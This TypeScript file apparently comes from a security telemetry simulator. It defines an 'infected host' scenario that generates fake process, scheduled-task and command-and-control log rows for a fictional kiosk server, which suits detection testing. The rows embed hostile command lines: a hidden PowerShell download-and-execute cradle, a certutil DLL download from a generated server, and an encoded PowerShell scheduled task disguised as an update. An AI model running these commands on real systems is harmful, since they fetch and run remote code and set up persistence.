import { accountOf } from "../../account.ts";
import { gatewayRow } from "../../rows/network.ts";
import { eventDataOf, securityEventRow } from "../../rows/windows.ts";
import { type Attack, host } from "../attack.ts";
import { processRow } from "../traces.ts";

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

/** A server is infected and only its machine account appears: a download, a scheduled task, calls to a command server. */
export const infectedHost: Attack = {
  kind: "infected host",
  hours: 4,
  plan: (scene) => {
    const { at, random } = scene;
    const computer = random.pick(["srv-kiosk-01", "srv-kiosk-02", "srv-kiosk-03"]);
    const machine = {
      ...accountOf(`${computer}@northwind.example`),
      sam: `${computer.toUpperCase()}$`,
      sid: "S-1-5-18",
    };
    const server = scene.address();
    const task = {
      TaskName: "\\Microsoft\\Windows\\UpdateSync",
      TaskContent: "powershell.exe -w hidden -enc JABzAD0A",
    };
    return {
      subjects: [host(computer)],
      types: ["account_compromise", "sabotage", "privilege_escalation", "data_exfiltration"],
      rows: [
        processRow(scene, {
          minute: 0,
          computer,
          by: machine,
          path: POWERSHELL,
          parent: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
          command: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${server}/a')"`,
        }),
        processRow(scene, {
          minute: 2,
          computer,
          by: machine,
          path: "C:\\Windows\\System32\\certutil.exe",
          parent: POWERSHELL,
          command: `certutil.exe -urlcache -split -f http://${server}/b.dll C:\\Windows\\Temp\\b.dll`,
        }),
        securityEventRow({
          at: at(5),
          computer,
          eventId: 4698,
          activity: "A scheduled task was created.",
          subject: machine,
          more: { EventData: eventDataOf(task), AccountType: "Machine" },
        }),
        ...Array.from({ length: 10 }, (_, index) =>
          gatewayRow({
            at: at(8 + index * 10),
            sourceIp: "10.30.1.77",
            destinationIp: server,
            host: "sync-update.example",
            eventClass: "THREAT",
            activity: "Generic.Command and Control Traffic",
            severity: 8,
            action: "reset-both",
            sentBytes: 600,
            more: { SourceHostName: computer },
          }),
        ),
      ],
    };
  },
};
